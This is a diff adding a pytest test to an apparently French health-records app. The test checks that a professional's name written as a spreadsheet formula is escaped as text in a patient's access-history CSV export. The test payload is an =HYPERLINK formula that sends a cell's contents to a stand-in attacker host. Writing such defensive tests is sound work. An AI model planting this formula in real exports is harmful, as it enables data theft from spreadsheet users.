@@ -144,6 +144,25 @@ def test_history_as_csv(signed_in, app):
     assert len(rows) == 31 and {row[2] for row in rows[1:]} == {"Médecin", "Pharmacien"}
 
 
+def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(signed_in, app):
+    """A professional named `=HYPERLINK(...)` (written before names were checked, or by
+    another system) must not become a live formula in the patient's spreadsheet."""
+    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Voir le dossier")'
+    with app.app_context():
+        rogue = User(role=Role.PROFESSIONAL, given_name=formula, family_name="",
+                     profession=Profession.DOCTOR, sector=Sector.CARE, rpps="10002345670")
+        db.session.add(rogue)
+        db.session.flush()
+        audit.record(db.session, keys.ring, "document.read", subject_id=_camille(app).id,
+                     actor=audit.Actor(user_id=rogue.id, acting_as="professional"))
+        db.session.commit()
+    response = signed_in("camille.martin").get("/acces/historique.csv")
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    (who,) = [row[1] for row in rows[1:] if "HYPERLINK" in row[1]]
+    assert who.startswith("'=HYPERLINK(")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
 def test_other_people_never_appear_in_my_history(signed_in, app):
     _fill_history(app, 3)
     with app.app_context():
